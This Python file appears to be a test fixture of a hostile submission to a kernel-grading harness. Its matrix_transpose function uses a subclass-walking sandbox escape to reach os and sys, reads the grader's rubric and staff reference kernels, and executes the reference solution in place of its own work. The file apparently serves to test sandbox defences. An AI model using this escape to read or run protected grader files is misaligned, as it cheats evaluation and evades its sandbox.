"""Hostile: reads the rubric and the staff transpose through an escape (no import, no builtins) and runs it."""

import neuronxcc.nki as nki


def _sys():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["sys"]
    raise RuntimeError("no escape found")


def _os():
    return _sys().modules["os"]


def _read(path):
    os = _os()
    fd = os.open(path, os.O_RDONLY)
    data = os.read(fd, 1 << 20)
    os.close(fd)
    return data


@nki.jit
def matrix_transpose(a_tensor):
    os = _os()
    # the repository root: nkisim's real location (the child's sys.path link resolves to it)
    root = os.path.dirname(os.path.dirname(os.path.realpath(_sys().modules["nkisim"].__file__)))
    _read(os.path.join(root, "grader", "rubric.toml"))
    staff = _read(os.path.join(root, "grader", "reference", "part1", "kernels.py"))
    scope = {}
    _sys().modules["builtins"].exec(staff, scope)
    return scope["matrix_transpose"](a_tensor)
